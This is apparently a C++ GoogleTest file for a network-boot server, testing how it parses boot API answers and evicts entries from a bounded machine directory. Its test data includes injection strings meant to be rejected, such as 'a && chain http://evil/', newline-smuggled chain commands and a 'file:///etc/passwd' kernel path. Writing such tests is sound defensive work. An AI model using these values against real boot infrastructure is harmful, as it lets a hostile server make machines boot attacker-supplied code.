// Reading the boot API's answers: pixiecore's form, and everything a hostile API may send.
#include <gtest/gtest.h>

#include "boot/boot_api.hpp"
#include "boot/machine_directory.hpp"

namespace netboot::boot {
namespace {

TEST(BootApi, Url) {
  config::BootApiConfig api;
  api.url = "http://127.0.0.1:8000/prefix";
  EXPECT_EQ(boot_api_url(api, *MacAddress::parse("52-54-00-AB-CD-EF")), "http://127.0.0.1:8000/prefix/v1/boot/52:54:00:ab:cd:ef");
}

TEST(BootApi, PixiecoreAnswer) {
  const auto a = read_boot_api_answer(
      200, R"({"kernel":"http://h/k","initrd":["http://h/i1","i2"],"cmdline":"console=ttyS0","message":"hi"})");
  ASSERT_EQ(a.outcome, ApiOutcome::Boot) << a.detail;
  EXPECT_EQ(a.spec.kernel, "http://h/k");
  EXPECT_EQ(a.spec.initrds, (std::vector<std::string>{"http://h/i1", "i2"}));
  EXPECT_EQ(a.spec.cmdline, "console=ttyS0");
  EXPECT_FALSE(a.spec.templates);
  const auto one = read_boot_api_answer(200, R"({"kernel":"k","initrd":"i"})");
  ASSERT_EQ(one.outcome, ApiOutcome::Boot);
  EXPECT_EQ(one.spec.initrds, std::vector<std::string>{"i"});
}

TEST(BootApi, StatusesOtherThan200) {
  EXPECT_EQ(read_boot_api_answer(404, "").outcome, ApiOutcome::NoBoot);
  for (long status : {0L, 301L, 403L, 500L, 503L, 204L}) EXPECT_EQ(read_boot_api_answer(status, R"({"kernel":"k"})").outcome, ApiOutcome::Failed);
}

TEST(BootApi, MalformedAndHostileAnswersFail) {
  for (const char* body : {"", "{", "not json", "[]", "null", R"({"initrd":["i"]})", R"({"kernel":5})",
                           R"({"kernel":""})", R"({"kernel":"k","initrd":[1]})", R"({"kernel":"k","initrd":{}})",
                           R"({"kernel":"k","cmdline":["a"]})", R"({"kernel":"http://h/k\nchain http://evil"})",
                           R"({"kernel":"http://h/k x"})", R"({"kernel":"file:///etc/passwd"})",
                           R"({"kernel":"k","initrd":["tftp://h/i"]})", R"({"kernel":"k","cmdline":"a\nchain x"})",
                           R"({"kernel":"k","cmdline":"a\u0000b"})"}) {
    const auto a = read_boot_api_answer(200, body);
    EXPECT_EQ(a.outcome, ApiOutcome::Failed) << body;
    EXPECT_FALSE(a.detail.empty());
  }
}

// Review (issue 20): iPXE ends a command at "||", "&&", ";" or a word starting with '#':
// an API cmdline holding one would have added commands after the kernel line.
TEST(BootApi, CmdlineWordsThatEndIpxesCommandFail) {
  for (const char* cmdline : {"quiet || shell", "a && chain http://evil/", "a ; chain x", "a #comment", "||"}) {
    const auto a = read_boot_api_answer(200, std::string(R"({"kernel":"k","cmdline":")") + cmdline + "\"}");
    EXPECT_EQ(a.outcome, ApiOutcome::Failed) << cmdline;
    EXPECT_NE(a.detail.find("would end iPXE's kernel line"), std::string::npos) << a.detail;
  }
  for (const char* cmdline : {"ds=nocloud;s=http://h/", "a|b", "x=#1", "console=ttyS0 ${net0/mac}"})
    EXPECT_EQ(read_boot_api_answer(200, std::string(R"({"kernel":"k","cmdline":")") + cmdline + "\"}").outcome,
              ApiOutcome::Boot)
        << cmdline;
}

TEST(BootApi, BoundsOnWhatAnAnswerHolds) {
  EXPECT_EQ(read_boot_api_answer(200, std::string(100000, '[')).outcome, ApiOutcome::Failed);
  EXPECT_EQ(read_boot_api_answer(200, R"({"kernel":"k","x":[[[[[[[[[1]]]]]]]]]})").outcome, ApiOutcome::Failed);
  EXPECT_EQ(read_boot_api_answer(200, R"({"kernel":"k","x":"[[[[[[[[[[[[[[[["})").outcome, ApiOutcome::Boot);
  EXPECT_EQ(read_boot_api_answer(200, R"({"kernel":")" + std::string(kMaxApiUrlBytes + 1, 'k') + "\"}").outcome,
            ApiOutcome::Failed);
  EXPECT_EQ(read_boot_api_answer(200, R"({"kernel":"k","cmdline":")" + std::string(kMaxApiCmdlineBytes + 1, 'c') + "\"}").outcome,
            ApiOutcome::Failed);
  std::string many = R"({"kernel":"k","initrd":[)";
  for (std::size_t i = 0; i <= kMaxApiInitrds; ++i) many += (i ? ",\"i\"" : "\"i\"");
  EXPECT_EQ(read_boot_api_answer(200, many + "]}").outcome, ApiOutcome::Failed);
}

TEST(MachineDirectory, BoundedLeastRecentlyWrittenGoes) {
  MachineDirectory directory(2);
  const auto mac = [](int i) { return MacAddress({2, 0, 0, 0, 0, static_cast<std::uint8_t>(i)}); };
  const WallTime t0{};
  directory.remember(mac(1), {std::nullopt, std::nullopt, t0 + std::chrono::seconds(1)});
  directory.remember(mac(2), {std::nullopt, std::nullopt, t0 + std::chrono::seconds(2)});
  directory.remember(mac(1), {std::nullopt, std::nullopt, t0 + std::chrono::seconds(3)});
  directory.remember(mac(3), {std::nullopt, std::nullopt, t0 + std::chrono::seconds(4)});
  EXPECT_EQ(directory.size(), 2U);
  EXPECT_NE(directory.find(mac(1)), nullptr);
  EXPECT_EQ(directory.find(mac(2)), nullptr);
  EXPECT_NE(directory.find(mac(3)), nullptr);
  for (int i = 10; i < 200; ++i) directory.remember(mac(i), {std::nullopt, std::nullopt, t0 + std::chrono::seconds(i)});
  EXPECT_EQ(directory.size(), 2U);
}

}  // namespace
}  // namespace netboot::boot
